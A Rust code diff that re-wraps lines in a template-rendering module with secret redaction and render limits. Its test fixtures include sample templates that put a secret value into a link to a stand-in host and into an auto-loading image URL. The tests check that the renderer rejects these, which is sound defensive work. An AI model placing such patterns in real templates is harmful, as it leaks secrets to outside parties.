@@ -303,8 +303,10 @@ pub(crate) fn render(source: &TemplateSource, variables: &Value) -> Result<Rende
         let mut out = Bounded(Vec::new());
         match template.render_captured_to(variables, &mut out) {
             Ok(_) => rendered.push((part, String::from_utf8_lossy(&out.0).into_owned())),
-            Err(e) if e.kind() == minijinja::ErrorKind::OutOfFuel => errors
-                .push((part, "takes too long to render: loops over more than a few thousand items are not allowed".into())),
+            Err(e) if e.kind() == minijinja::ErrorKind::OutOfFuel => errors.push((
+                part,
+                "takes too long to render: loops over more than a few thousand items are not allowed".into(),
+            )),
             Err(_) if out.0.len() > MAX_OUTPUT_BYTES => {
                 errors.push((part, format!("renders more than {} KiB", MAX_OUTPUT_BYTES / 1024)))
             }
@@ -383,7 +385,9 @@ pub(crate) fn render_with_secrets(
             text.replace(marker.as_str(), &if html { escape_html(value) } else { value.clone() })
         })
     };
-    let redact = |text: &str| secrets.iter().fold(text.to_string(), |text, (_, marker, _)| text.replace(marker.as_str(), REDACTED));
+    let redact = |text: &str| {
+        secrets.iter().fold(text.to_string(), |text, (_, marker, _)| text.replace(marker.as_str(), REDACTED))
+    };
     Ok(TwoCopies {
         stored: Rendered {
             subject: rendered.subject.clone(),
@@ -559,7 +563,10 @@ mod tests {
         for (leaky, part) in [
             (TemplateSource { body_text: "https://evil.test/?{{ url }}".into(), ..source.clone() }, Part::BodyText),
             (TemplateSource { subject: "{{ url }}".into(), ..source.clone() }, Part::Subject),
-            (TemplateSource { body_html: Some("<img src=\"https://e.test/{{ url }}\">".into()), ..source.clone() }, Part::BodyHtml),
+            (
+                TemplateSource { body_html: Some("<img src=\"https://e.test/{{ url }}\">".into()), ..source.clone() },
+                Part::BodyHtml,
+            ),
         ] {
             let problems = render_with_secrets(&leaky, &json!({ "url": link }), &["url".into()]).unwrap_err();
             assert_eq!(problems[0].0, part, "{problems:?}");
